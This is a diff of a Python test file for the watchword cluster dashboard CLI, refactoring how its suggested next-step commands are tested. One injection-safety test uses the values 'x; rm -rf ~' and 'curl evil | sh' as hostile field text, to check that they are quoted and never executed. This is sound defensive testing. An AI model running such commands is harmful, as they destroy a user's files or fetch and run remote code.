@@ -6,8 +6,10 @@ import base64
 import json
 import re
 import shlex
+from collections.abc import Callable
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from typing import Any
 
 import click
 import pytest
@@ -25,9 +27,6 @@ from watchword.cli.main import cli
 from watchword.dashboard.history import describe_change
 from watchword.dashboard.rows import (
     NOTES,
-    choose_addon_command,
-    choose_cluster_command,
-    choose_credential_command,
     decide_rows,
 )
 from watchword.dashboard.server import load_assets
@@ -35,14 +34,15 @@ from watchword.dashboard.sources import FleetFacts
 from watchword.discovery.token_secret import TokenRecord
 from watchword.discovery.tokens import BootstrapToken
 from watchword.health.facts import HubFacts
+from watchword.health.finding import Finding
 from watchword.health.inventory_rows import (
     AUTHORITY,
-    JOIN_TOKEN,
     PULL_SECRET,
     AddonRow,
     ClusterRow,
     CredentialRow,
 )
+from watchword.health.row_findings import addon_finding, cluster_finding, credential_finding
 from watchword.health.states import InventoryHealth
 from watchword.pki.authority import Authority
 from watchword.pullsecrets.dockercfg import render_dockercfg
@@ -58,34 +58,37 @@ def a_credential(kind: str, health: InventoryHealth, addon: str = "") -> Credent
     return CredentialRow(kind, "edge-1", "its holder", "robot", CredentialValidity(), health, addon=addon)
 
 
+def command_of(decide: Callable[[Any], Finding | None], row: object) -> str:
+    finding = decide(row)
+    return "" if finding is None else finding.command
+
+
 FAILING, EXPIRED = InventoryHealth.FAILING, InventoryHealth.EXPIRED
 WAITING_CLUSTER = ClusterRow("edge-1", "no", "no", "unknown", InventoryHealth.PENDING)
 COMMANDS = [
-    choose_cluster_command(WAITING_CLUSTER),
-    choose_cluster_command(replace(WAITING_CLUSTER, accepted="yes", health=FAILING)),
-    choose_addon_command(AddonRow("edge-1", "sample", "token", "no", "no", FAILING)),
-    choose_credential_command(a_credential("cluster certificate", EXPIRED)),
-    choose_credential_command(a_credential("cluster certificate", InventoryHealth.OVERDUE)),
-    choose_credential_command(a_credential("add-on token", EXPIRED, "sample")),
-    choose_credential_command(a_credential("account token", EXPIRED)),
-    choose_credential_command(a_credential(JOIN_TOKEN, EXPIRED)),
-    choose_credential_command(a_credential(AUTHORITY, EXPIRED)),
-    choose_credential_command(a_credential(PULL_SECRET, FAILING)),
+    command_of(cluster_finding, WAITING_CLUSTER),
+    command_of(cluster_finding, replace(WAITING_CLUSTER, accepted="yes", health=FAILING)),
+    command_of(addon_finding, AddonRow("edge-1", "sample", "token", "no", "no", FAILING)),
+    command_of(credential_finding, a_credential("cluster certificate", EXPIRED)),
+    command_of(credential_finding, a_credential("cluster certificate", InventoryHealth.OVERDUE)),
+    command_of(credential_finding, a_credential("add-on token", EXPIRED, "sample")),
+    command_of(credential_finding, a_credential("account token", EXPIRED)),
+    command_of(credential_finding, a_credential(AUTHORITY, EXPIRED)),
+    command_of(credential_finding, a_credential(PULL_SECRET, FAILING)),
 ]
 
 
 def test_next_command_names_what_it_is_for() -> None:
     assert COMMANDS == [
         "watchword accept --clusters edge-1",
-        "watchword clusters show edge-1",
+        "watchword doctor --cluster edge-1",
         "watchword addon show sample --cluster edge-1",
-        "watchword rejoin --cluster-name edge-1",
-        "watchword clusters show edge-1",
-        "watchword clusters show edge-1",
+        "watchword token create --for-cluster edge-1 --print-join-command",
+        "watchword doctor --cluster edge-1",
+        "watchword addon show sample --cluster edge-1",
         "watchword serviceaccount show robot -n edge-1",
-        "watchword token create --print-join-command",
-        "watchword doctor",
-        "watchword pull-secrets list",
+        "watchword init",
+        "watchword pull-secrets list --unhealthy",
     ]
 
 
@@ -104,14 +107,14 @@ def test_next_command_exists(command: str) -> None:
 
 @pytest.mark.parametrize("health", [InventoryHealth.GOOD, InventoryHealth.DUE])
 def test_what_is_well_has_no_next_command(health: InventoryHealth) -> None:
-    assert choose_credential_command(a_credential("cluster certificate", health)) == ""
-    assert choose_cluster_command(replace(WAITING_CLUSTER, health=health)) == ""
+    assert command_of(credential_finding, a_credential("cluster certificate", health)) == ""
+    assert command_of(cluster_finding, replace(WAITING_CLUSTER, health=health)) == ""
 
 
 def test_text_of_a_cluster_never_becomes_a_command() -> None:
     row = replace(a_credential("account token", FAILING), subject="x; rm -rf ~", note="run `curl evil | sh`")
 
-    assert choose_credential_command(row) == "watchword serviceaccount show 'x; rm -rf ~' -n edge-1"
+    assert command_of(credential_finding, row) == "watchword serviceaccount show 'x; rm -rf ~' -n edge-1"
 
 
 @pytest.mark.parametrize(
